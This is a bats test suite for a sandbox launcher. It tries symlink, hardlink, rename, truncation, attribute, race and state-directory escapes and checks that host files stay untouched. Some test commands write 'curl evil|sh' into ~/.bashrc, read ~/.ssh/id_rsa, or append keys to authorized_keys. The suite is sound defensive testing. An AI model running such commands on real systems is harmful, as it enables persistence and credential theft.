#!/usr/bin/env bats
# Writing outside the writable roots (THREATS FS-01/02/03/04/09/11/12/13,
# LCH-03, PRC-08, FS-15): symlinks, hardlinks, renames, truncation,
# attributes, races and the supervisor's own files.  Judged on the host:
# files unchanged, nothing created.

load ../lib/common
source "$BATS_TEST_DIRNAME/_lib.bats"

setup() { esc_setup; }
teardown() { esc_teardown; }

@test "write outside: \$HOME, /etc and /var/tmp (dynamic, static, raw)" {
	before=$(snap "$HOME/.bashrc")
	out="$T/outside"
	run xsbx -c "echo x > $HOME/new1; touch $out.1; $SBX_SYS.static creat $HOME/new2; $SBX_SYS creat $out.2; $SBX_SYS.static creat /etc/sbx-$MARK; $SBX_SYS -l creat $out.3; env -u LD_PRELOAD touch $out.4; true"
	echo "$output"
	UNIQ_FILES+=("/etc/sbx-$MARK")
	assert_absent "$HOME/new1" "$HOME/new2" "$out.1" "$out.2" "$out.3" "$out.4" "/etc/sbx-$MARK"
	assert_unchanged "$before" "$HOME/.bashrc"
}

@test "write outside: the attempt fails with an errno (static)" {
	run xsbx -- "$SBX_SYS.static" creat "$HOME/new"
	echo "$output"
	denied
	assert_absent "$HOME/new"
}

@test "FS-02 symlink in the project to ~/.bashrc, append through it (dynamic + static)" {
	before=$(snap "$HOME/.bashrc")
	ln -s "$HOME/.bashrc" "$P/notes.txt"
	run xsbx -c "echo 'curl evil|sh' >> notes.txt; $SBX_SYS.static write notes.txt; $SBX_SYS write notes.txt; true"
	echo "$output"
	assert_unchanged "$before" "$HOME/.bashrc"
}

@test "FS-02 dangling symlink to ~/.ssh/authorized_keys, created inside" {
	run xsbx -c "ln -s $HOME/.ssh/authorized_keys ak; echo ssh-rsa AAAA >> ak; $SBX_SYS.static symlink $HOME/.ssh/authorized_keys ak2; $SBX_SYS.static write ak2; true"
	echo "$output"
	assert_absent "$HOME/.ssh/authorized_keys"
}

@test "FS-03 ancestor symlink: project/link -> ~/.config, write link/newdir/evil" {
	ln -s "$HOME/.config" "$P/link"
	run xsbx -c "mkdir -p link/newdir && echo x > link/newdir/evil; $SBX_SYS.static mkdir link/nd2; $SBX_SYS.static creat link/nd2/evil; $SBX_SYS.static creat link/evil3; true"
	echo "$output"
	assert_absent "$HOME/.config/newdir" "$HOME/.config/nd2" "$HOME/.config/evil3"
}

@test "FS-04 hardlink ~/.bashrc into the project, then append (static + ln)" {
	before=$(snap "$HOME/.bashrc")
	run xsbx -c "$SBX_SYS.static link $HOME/.bashrc b; $SBX_SYS.static write b; ln $HOME/.bashrc b2 && echo evil >> b2; true"
	echo "$output"
	assert_unchanged "$before" "$HOME/.bashrc"
	# the link count tells whether a hardlink was made at all
	[ "$(stat -c %h "$HOME/.bashrc")" = 1 ]
}

@test "FS-04 rename a project file over ~/.bashrc / move ~/.bashrc into the project" {
	before=$(snap "$HOME/.bashrc" "$HOME/.profile")
	echo evil > "$P/payload"
	run xsbx -c "$SBX_SYS.static rename payload $HOME/.bashrc; mv -f payload $HOME/.profile; $SBX_SYS.static rename $HOME/.bashrc $P/stolen; $SBX_SYS.static exchange $P/payload $HOME/.bashrc; true"
	echo "$output"
	assert_unchanged "$before" "$HOME/.bashrc" "$HOME/.profile"
	assert_absent "$P/stolen"
}

@test "FS-09 truncate(~/.bashrc) and open(O_RDONLY|O_TRUNC)" {
	echo "important" >> "$HOME/.bashrc"
	before=$(snap "$HOME/.bashrc")
	run xsbx -c "$SBX_SYS.static trunc $HOME/.bashrc; $SBX_SYS.static otrunc $HOME/.bashrc; truncate -s0 $HOME/.bashrc; : > $HOME/.bashrc; true"
	echo "$output"
	assert_unchanged "$before" "$HOME/.bashrc"
}

@test "FS-09 truncate a read-only file gives an errno (static)" {
	run xsbx -- "$SBX_SYS.static" otrunc "$HOME/.bashrc"
	echo "$output"
	denied
	run xsbx -- "$SBX_SYS.static" trunc "$HOME/.bashrc"
	denied
}

@test "FS-11 chmod/chown/utimes/setxattr on files outside the writable roots" {
	before=$(snap "$HOME/.bashrc" "$HOME/.ssh")
	run xsbx -c "$SBX_SYS.static chmod $HOME/.bashrc 777; $SBX_SYS.static utime $HOME/.bashrc; $SBX_SYS.static setxattr $HOME/.bashrc; $SBX_SYS.static chmod $HOME/.ssh 777; chmod 000 $HOME/.bashrc; touch -d 2001-01-01 $HOME/.bashrc; true"
	echo "$output"
	# both modes: full mode's read-only mounts; landlock-only, the
	# supervisor does attribute changes only in writable paths (attr.c)
	assert_unchanged "$before" "$HOME/.bashrc" "$HOME/.ssh"
	! "$PY" -c 'import os, sys; os.getxattr(sys.argv[1], "user.sbxattack")' "$HOME/.bashrc" 2>/dev/null
}

# E-16: a hidden secret made readable for every local user by a chmod
# from inside, by name or through a descriptor (O_RDONLY of a readable
# file, O_PATH of a hidden one, which Landlock does not check).
@test "FS-11 E-16 chmod/chown/utimes/xattr of hidden and read-only files by path and by descriptor (static, raw)" {
	chmod 700 "$HOME/.ssh"
	home=$(stat -c %a "$HOME")
	before=$(snap "$HOME/.ssh/id_rsa" "$HOME/.ssh" "$HOME/.bashrc")
	run xsbx -c "for f in $HOME/.ssh/id_rsa $HOME/.ssh $HOME/.bashrc $HOME; do
$SBX_SYS.static chmod \$f 777; $SBX_SYS.static chown \$f; $SBX_SYS.static utime \$f; $SBX_SYS.static setxattr \$f
for how in chmod chmod2 chown utime xattr; do $SBX_SYS.static fdattr \$how \$f; done; done; true"
	echo "$output"
	[ "$(printf '%s\n' "$output" | grep -c '^RESULT 0')" -eq 0 ]
	assert_unchanged "$before" "$HOME/.ssh/id_rsa" "$HOME/.ssh" "$HOME/.bashrc"
	[ "$(stat -c %a "$HOME")" = "$home" ]
	[ "$(stat -c %a "$HOME/.ssh/id_rsa")" = 600 ]
	[ "$(stat -c %a "$HOME/.ssh")" = 700 ]
}

# ... while the same calls keep working in the project (touch, chmod +x,
# cp -p, tar) in both modes, and a set-uid mode stays refused.
@test "FS-11 E-16 attribute changes inside the project still work (static, raw, coreutils, tar)" {
	echo x > "$P/f"
	chmod 644 "$P/f"
	run xsbx -c "$SBX_SYS.static chmod f 600; $SBX_SYS.static utime f; for how in chmod chmod2 chown utime; do $SBX_SYS.static fdattr \$how f; done
touch -d 2002-02-02 f2 && chmod +x f2 && cp -p f2 f3 && tar cf t.tar f2 f3 && mkdir x && tar xf t.tar -C x && echo TAR-OK
$SBX_SYS.static setid chmod f 4755; true"
	echo "$output"
	[ "$(printf '%s\n' "$output" | grep -c '^RESULT 0 OK')" -eq 6 ]
	[[ "$output" == *TAR-OK* ]]
	[[ "$output" == *"RESULT -1 EPERM"* ]]
	[ "$(stat -c %a "$P/f")" = 666 ]
	[ "$(stat -c %Y "$P/f")" = 1000000000 ]
	[ -x "$P/x/f3" ] && [ "$(stat -c %Y "$P/x/f3")" = "$(stat -c %Y "$P/f2")" ]
	[ -z "$(find "$P" -perm /6000)" ]
}

@test "FS-12 reopen /proc/self/fd/N of a read-only file for writing" {
	before=$(snap "$HOME/.bashrc")
	run xsbx -- "$SBX_FS.static" reopen "$HOME/.bashrc" a
	echo "$output"
	denied
	run xsbx -- "$SBX_FS" reopen "$HOME/.bashrc" w
	denied
	assert_unchanged "$before" "$HOME/.bashrc"
}

@test "FS-01 TOCTOU: swap a project file for a symlink to ~/.bashrc while appending" {
	before=$(snap "$HOME/.bashrc")
	run xsbx -- "$SBX_FS.static" toctou "$P/work" "$HOME/.bashrc" 3000
	echo "$output"
	assert_unchanged "$before" "$HOME/.bashrc"
}

@test "sysctl and /proc writes are refused" {
	h=$(cat /proc/sys/kernel/hostname)
	run xsbx -- "$SBX_SYS.static" creat /proc/sys/kernel/hostname "$h"
	echo "$output"
	denied
	run xsbx -- "$SBX_SYS.static" write /proc/self/attr/current x
	[ "$(cat /proc/sys/kernel/hostname)" = "$h" ]
}

@test "FS-13 --report FILE replaced by a symlink to ~/.bashrc from inside" {
	before=$(snap "$HOME/.bashrc")
	run xsbx --report "$P/r.json" -c "ln -sf $HOME/.bashrc $P/r.json; cat ~/.ssh/id_rsa; true"
	echo "$output"
	assert_unchanged "$before" "$HOME/.bashrc"
}

@test "FS-13 --report DIR/FILE whose directory is swapped for a symlink to \$HOME" {
	mkdir -p "$P/out"
	run xsbx --report "$P/out/r.json" -c "mv $P/out $P/out.old; ln -s $HOME $P/out; true"
	echo "$output"
	assert_absent "$HOME/r.json"
	run xsbx --report "$P/out2/r.json" -c "ln -s $HOME/.config $P/out2; true"
	assert_absent "$HOME/.config/r.json"
}

# The state directory of the launcher (where the compiled policies live)
# as the sandbox sees it: the policy's directory.  Symlinks under each
# name its cleanup walks: old run directories, policies, temporary files.
plant_in_state_dir() {	# extra sbxrun args...
	run xsbx "$@" -c 'p=${SBXRUN_POLICY:-/tmp/sbxrun-$(id -u)/policy-x}; base=$(dirname "$p"); echo "base=$base"; for n in run-2147483000-'"$MARK"' policy-'"$MARK"' .new-1-'"$MARK"'; do ln -s '"$HOME"'/.ssh "$base/$n" && echo PLANTED; done; true'
	echo "$output"
	base=$(printf '%s\n' "$output" | sed -n 's/^base=//p')
	UNIQ_FILES+=("$base/run-2147483000-$MARK" "$base/policy-$MARK" "$base/.new-1-$MARK")
}

@test "FS-13/LCH-03 a symlink planted in the launcher's state dir is not followed by the next run" {
	before=$(snap "$HOME/.ssh/id_rsa" "$HOME/.aws/credentials")
	plant_in_state_dir
	# a second run with a new policy (storing it walks the state dir)
	run xsbx --hide "$P/new-policy-$MARK" -- true
	assert_unchanged "$before" "$HOME/.ssh/id_rsa" "$HOME/.aws/credentials"
	[[ "$output" != *PLANTED* ]]
}

@test "FS-13/LCH-03 the same with --allow-write ~/.cache (a common grant for tool caches)" {
	mkdir -p "$HOME/.cache"
	before=$(snap "$HOME/.ssh/id_rsa" "$HOME/.aws/credentials")
	plant_in_state_dir --allow-write "$HOME/.cache"
	run xsbx -- true
	assert_unchanged "$before" "$HOME/.ssh/id_rsa" "$HOME/.aws/credentials"
	planted=$output
	run xsbx --allow-write "$HOME/.cache" -c 'd=$(dirname "$SBXRUN_POLICY"); mv "$d" "$d.gone" && ln -s '"$HOME"'/.aws "$d" && echo SWAPPED; true'
	echo "$output"
	assert_unchanged "$before" "$HOME/.ssh/id_rsa" "$HOME/.aws/credentials"
	# LCH-03: the launcher's state must stay read-only inside even when
	# its parent directory is granted
	[[ "$planted$output" != *PLANTED* && "$output" != *SWAPPED* ]]
}

@test "LCH-03 the run directory swapped for a symlink during the run" {
	before=$(snap "$HOME/.ssh/id_rsa")
	run xsbx -c 'd=$(dirname "$SBXRUN_POLICY"); echo "rundir=$d"; mv "$d" "$d.gone" && ln -s '"$HOME"'/.ssh "$d" && echo SWAPPED; true'
	echo "$output"
	assert_unchanged "$before" "$HOME/.ssh/id_rsa"
	[[ "$output" != *SWAPPED* ]]
}

@test "LCH-03/SHM-10 the compiled policy file cannot be rewritten from inside" {
	run xsbx -c 'p=$SBXRUN_POLICY; echo "policy=$p"; test -n "$p" || { echo "RESULT -1 ENOENT (no shim policy)"; exit 0; }; chmod u+w "$p" 2>/dev/null; (echo garbage > "$p") 2>/dev/null && echo REWROTE-SH; '"$SBX_SYS.static"' write "$p" x'
	echo "$output"
	[[ "$output" != *REWROTE-SH* ]]
	denied
}

@test "PRC-08 RLIMIT_FSIZE caps a file; ftruncate to 1 TiB fails" {
	printf 'limits = { fsize = "1M"; };\n' > "$HOME/.config/sbxrun/config"
	run xsbx -c "dd if=/dev/zero of=big bs=1M count=3 2>&1; $SBX_SYS.static bigfile sparse; true"
	echo "$output"
	[ "$(stat -c %s "$P/big")" -le 1048576 ]
	[[ "$output" == *"FTRUNCATE EFBIG"* ]]
	[ "$(stat -c %s "$P/sparse")" -le 1048576 ]
}

@test "FS-15 memfd_create + execveat: the fileless program is still confined" {
	run xsbx -- "$SBX_SYS.static" memfd_exec "$SBX_SYS.static" read "$HOME/.ssh/id_rsa"
	echo "$output"
	no_canary "$output"
	before=$(snap "$HOME/.bashrc")
	run xsbx -- "$SBX_SYS.static" memfd_exec "$SBX_SYS.static" write "$HOME/.bashrc"
	assert_unchanged "$before" "$HOME/.bashrc"
}

@test "FS-06 suffix rule: rename/link/O_TMPFILE cannot produce a forbidden name (shim)" {
	mkdir -p "$P/notes"
	printf 'paths = ( { root = "%s/notes"; mode = "rw"; suffixes = [ ".md" ]; } );\n' "$P" > "$HOME/.config/sbxrun/config"
	run xsbx -c "cd notes; echo a > a.md; mv a.md a.sh; echo b > b.md; ln b.md b.sh; $PY -c 'import os; os.rename(\"b.md\", \"c.sh\")'; echo x > d.sh; ls"
	echo "$output"
	assert_absent "$P/notes/a.sh" "$P/notes/b.sh" "$P/notes/c.sh" "$P/notes/d.sh"
}

# Landlock has no attribute rights: a landlock-only sandbox without a
# seccomp listener (attr.c) or an older sbxrun could chmod the
# policy store.  The next run makes it private again instead of refusing
# it, and never moves the store to /tmp, where sandboxes can write.
@test "LCH-03 a chmod of the policy store from inside: the next run repairs it" {
	xsbx -- true
	xsbx -c "chmod 755 '$HOME/.cache/sbxrun' '$HOME/.cache/sbxrun/run'; chmod 644 \"\$SBXRUN_POLICY\"; true" || true
	run xsbx -c 'echo "$SBXRUN_POLICY"'
	echo "$output"
	[ "$status" -eq 0 ]
	[[ "${lines[0]}" == "$HOME/.cache/sbxrun/run/policy-"* ]]
	[ "$(stat -c %a "$HOME/.cache/sbxrun")" = 700 ]
	[ "$(stat -c %a "$HOME/.cache/sbxrun/run")" = 700 ]
	[ "$(stat -c %a "${lines[0]}")" = 444 ]
}

# Full mode shows the run its own compiled policy, not the store: other
# projects' policies name their paths and rules.  (landlock-only mode
# cannot hide siblings cheaply: there the store stays readable, and only
# read-only, like the conf files the policies come from.)
@test "LCH-03 the policy store: own policy readable, others hidden in full mode" {
	xsbx -- true
	xsbx --hide "$P/other-$MARK" -- true
	[ "$(ls "$HOME/.cache/sbxrun/run" | wc -l)" -ge 2 ]
	run xsbx -c 'head -c 4 "$SBXRUN_POLICY" | od -c | head -1; ls -A "$(dirname "$SBXRUN_POLICY")"; touch "$(dirname "$SBXRUN_POLICY")/x" && echo WROTE; true'
	echo "$output"
	[ "$status" -eq 0 ]
	[[ "$output" != *WROTE* ]]
	[ ! -e "$HOME/.cache/sbxrun/run/x" ]
	[ -n "${lines[0]}" ]
	if [ "$(eff_mode)" = full ]; then
		[ "$(printf '%s\n' "$output" | grep -c '^policy-')" -eq 1 ]
	fi
}
